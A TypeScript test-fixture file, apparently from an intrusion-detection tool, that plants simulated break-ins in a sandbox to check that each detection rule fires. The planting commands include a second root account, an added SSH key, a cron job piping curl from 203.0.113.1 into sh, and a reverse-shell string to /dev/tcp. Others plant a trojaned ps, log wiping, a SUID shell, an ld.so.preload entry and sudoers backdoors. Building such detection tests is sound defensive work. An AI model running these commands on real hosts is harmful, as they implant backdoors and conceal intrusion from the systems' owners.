import type { LogStyle } from './noise.ts';

/** Something that an intruder leaves on a host, and how the check is to find it. */
export type BreakIn = {
  readonly what: string;
  /** Run in the sandbox, by sh. */
  readonly plant: string;
  /** Programs without which it cannot be planted. */
  readonly needs: readonly string[];
  /** Every one of these must fire, each loud enough to stop letters. */
  readonly rules: readonly string[];
  /** Part of a line that a finding quotes. */
  readonly says: string;
  /** Would another check of this very machine see it too? Then only the rehearsal may plant it, which runs alone. */
  readonly seenOutside?: boolean;
  /** Where it is not found, and why: said in docs/node-setup.md too. */
  readonly notFound?: Readonly<Record<string, string>>;
};

const appendAuth: Readonly<Record<LogStyle, string>> = {
  files: '>> /var/log/auth.log',
  messages: '>> /var/log/messages',
  journal: '',
};
const password = 'Accepted password for www-data from 203.0.113.66 port 4022 ssh2';
const perlListens = (port: number): string =>
  `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 1, LocalPort => ${port}); sleep 60' & sleep 1`;
/** memfd_create(2), then the program from there: number 319 on x86-64, 279 on arm64. */
const fromMemory = `perl -e '$n = "x"; $fd = syscall($ARGV[0] eq "aarch64" ? 279 : 319, $n, 0); open($out, ">&=", $fd); open($in, "<", "/bin/sleep"); binmode $in; local $/; print {$out} readline($in); $out->flush; exec {"/proc/self/fd/$fd"} "kworker", "60"' "$(uname -m)" & sleep 1`;

/** The break-ins that are rehearsed; `logs` says where a line of sshd goes. */
export function breakIns(logs: LogStyle): readonly BreakIn[] {
  return [
    {
      what: 'an account with the number of root',
      plant: 'echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd',
      needs: [],
      rules: ['second-root', 'new-account'],
      says: 'toor 0 /bin/sh',
    },
    {
      what: 'a new authorized key',
      plant:
        'mkdir -p /root/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x" >> /root/.ssh/authorized_keys',
      needs: [],
      rules: ['new-key'],
      says: 'root ',
    },
    {
      what: 'a listener',
      plant: perlListens(31_337),
      needs: ['perl'],
      rules: ['new-listener'],
      says: 'perl TCP *:31337',
    },
    {
      what: 'a netcat that listens',
      plant: 'nc -l -p 31338 & sleep 1',
      needs: ['nc'],
      rules: ['new-listener', 'netcat-listens'],
      says: ':31338',
    },
    {
      what: 'a running program whose file was deleted',
      plant:
        'mkdir -p /usr/local/bin; cp -L /bin/sleep /usr/local/bin/sleep; /usr/local/bin/sleep 60 & sleep 1; rm /usr/local/bin/sleep',
      needs: [],
      rules: ['program-deleted'],
      says: '/usr/local/bin/sleep (deleted)',
      seenOutside: true,
    },
    {
      what: 'a program that exists in memory only',
      plant: fromMemory,
      needs: ['perl'],
      rules: ['program-in-memory'],
      says: '/memfd:x',
      seenOutside: true,
    },
    {
      what: 'a program in /dev/shm',
      plant: 'mkdir /dev/shm/.x; cp -L /bin/sleep /dev/shm/.x/sleep; /dev/shm/.x/sleep 60 & sleep 1',
      needs: [],
      rules: ['program-in-open-folder'],
      says: '/dev/shm/.x/sleep',
      seenOutside: true,
    },
    {
      what: 'a cron table that loads a script',
      plant: 'mkdir -p /etc/cron.d; echo "*/5 * * * * root curl -s http://203.0.113.1/x | sh" > /etc/cron.d/php',
      needs: [],
      rules: ['autostart-bad-command', 'new-autostart'],
      says: 'curl -s',
    },
    {
      what: 'a cron table that looks harmless',
      plant: 'mkdir -p /etc/cron.d; echo "17 3 * * * root /usr/sbin/update-cache" > /etc/cron.d/cache',
      needs: [],
      rules: ['new-autostart'],
      says: '/etc/cron.d/cache',
    },
    {
      what: 'a crontab of an account',
      plant: 'mkdir -p /var/spool/cron/crontabs; echo "@reboot /usr/bin/update" > /var/spool/cron/crontabs/www-data',
      needs: [],
      rules: ['new-autostart'],
      says: '/var/spool/cron/crontabs/www-data',
    },
    {
      what: 'a unit and its timer',
      plant:
        'mkdir -p /etc/systemd/system; printf "[Service]\\nExecStart=/usr/lib/cache/refresh\\n" > /etc/systemd/system/cache.service; printf "[Timer]\\nOnCalendar=daily\\n" > /etc/systemd/system/cache.timer',
      needs: [],
      rules: ['new-autostart'],
      says: '/etc/systemd/system/cache.timer',
    },
    {
      what: 'a unit among those of packages',
      plant: 'printf "[Service]\\nExecStart=/usr/bin/true\\n" > /usr/lib/systemd/system/dbus-cache.service',
      needs: ['dpkg-query'],
      rules: ['new-autostart'],
      says: '/usr/lib/systemd/system/dbus-cache.service',
    },
    {
      what: 'a unit that runs from /tmp',
      plant:
        'mkdir -p /etc/systemd/system; printf "[Service]\\nExecStart=/tmp/.x/agent\\n" > /etc/systemd/system/agent.service',
      needs: [],
      rules: ['new-autostart', 'autostart-bad-command'],
      says: '/tmp/.x/agent',
    },
    {
      what: 'an ld.so.preload',
      plant: 'echo /usr/lib/libsystem.so.9 > /etc/ld.so.preload',
      needs: [],
      rules: ['preload-for-all'],
      says: '/usr/lib/libsystem.so.9',
    },
    ...(logs === 'journal'
      ? []
      : [
          {
            what: 'an accepted password from an unknown address',
            plant: `echo "$(date +%Y-%m-%dT%H:%M:%S)+00:00 helium sshd[9]: ${password}" ${appendAuth[logs]}`,
            needs: [],
            rules: ['accepted-unknown'],
            says: 'from 203.0.113.66',
          },
        ]),
    ...(logs === 'journal'
      ? [
          {
            what: 'an accepted password from an unknown address',
            plant: `printf '__REALTIME_TIMESTAMP=%s000000\\n__MONOTONIC_TIMESTAMP=9000000\\n_BOOT_ID=%s\\n_HOSTNAME=helium\\n_TRANSPORT=syslog\\nSYSLOG_IDENTIFIER=sshd\\nSYSLOG_FACILITY=4\\nPRIORITY=6\\nMESSAGE=%s\\n\\n' "$(date +%s)" 33333333333333333333333333333333 '${password}' > /root/more.export; /lib/systemd/systemd-journal-remote -o /var/log/journal/$(cat /etc/machine-id)/more.journal /root/more.export >/dev/null 2>&1`,
            needs: [],
            rules: ['accepted-unknown'],
            says: 'from 203.0.113.66',
          },
        ]
      : []),
    ...(logs === 'files'
      ? [
          {
            what: 'an emptied auth.log',
            plant: 'rm -f /var/log/auth.log.1; sleep 12; : > /var/log/auth.log',
            needs: [],
            rules: ['log-emptied'],
            says: '/var/log/auth.log 0',
          },
          {
            what: 'an emptied auth.log that was rotated before',
            plant: 'tail -n 5 /var/log/auth.log > /var/log/auth.log.1; sleep 65; : > /var/log/auth.log',
            needs: [],
            rules: ['log-emptied'],
            says: '/var/log/auth.log 0',
          },
        ]
      : []),
    ...(logs === 'messages'
      ? [
          {
            what: 'an emptied log',
            plant: 'sleep 12; : > /var/log/messages',
            needs: [],
            rules: ['log-emptied'],
            says: '/var/log/messages 0',
            notFound: {
              busybox:
                'the stat of BusyBox does not say when a file was made; the check then lacks its log and is not complete',
            },
          },
        ]
      : []),
    {
      what: 'a ps that hides a process',
      plant:
        'sleep 61 & p=$(command -v ps); mv "$p" "$p.real"; printf \'#!/bin/sh\\n%s "$@" | grep -v "sleep 61"\\n\' "$([ -e /bin/busybox ] && [ ! -e /etc/debian_version ] && echo busybox ps || echo "$p.real")" > "$p"; chmod 755 "$p"; sleep 4',
      needs: [],
      rules: logs === 'messages' ? ['hidden-from-ps'] : ['hidden-from-ps', 'program-changed'],
      says: 'sleep 61',
      seenOutside: true,
      notFound: {
        busybox:
          'the shell of this BusyBox runs a ps of its own: the false one is never asked, and hides nothing from the check',
      },
    },
    {
      what: 'an sshd of somebody else’s making',
      plant: 'printf x >> /usr/sbin/sshd',
      needs: ['dpkg-query', 'sshd'],
      rules: ['program-changed'],
      says: '/usr/sbin/sshd',
    },
    {
      what: 'an ls of somebody else’s making',
      plant: 'cp /bin/ls /bin/ls.real; printf x >> /bin/ls',
      needs: ['dpkg-query'],
      rules: ['program-changed'],
      says: '/bin/ls',
    },
    {
      what: 'a changed sudoers',
      plant: 'mkdir -p /etc/sudoers.d; echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/00-www',
      needs: [],
      rules: ['new-account'],
      says: '/etc/sudoers.d/00-www',
    },
    {
      what: 'a shell in /tmp that runs as root for everybody',
      plant: 'cp -L /bin/sh /tmp/.s; chmod 4755 /tmp/.s',
      needs: [],
      rules: ['root-program-planted', 'new-account'],
      says: 'suid /tmp/.s',
    },
    {
      what: 'a program that runs as root for everybody',
      plant: 'mkdir -p /usr/local/bin; cp -L /bin/cat /usr/local/bin/backup; chmod 4755 /usr/local/bin/backup',
      needs: [],
      rules: ['new-account'],
      says: 'suid /usr/local/bin/backup',
    },
    {
      what: 'a shell on a connection',
      plant: `bash -c 'exec -a "bash -c bash -i >& /dev/tcp/203.0.113.1/4444 0>&1" sleep 62' & sleep 1`,
      needs: ['bash'],
      rules: ['reverse-shell'],
      says: '/dev/tcp/203.0.113.1/4444',
      seenOutside: true,
    },
    {
      what: 'a process that poses as a kernel thread',
      plant: `bash -c 'exec -a "[kworker/0:3-events]" sleep 63' & sleep 1`,
      needs: ['bash'],
      rules: ['poses-as-kernel-thread'],
      says: 'kworker',
      seenOutside: true,
    },
  ];
}
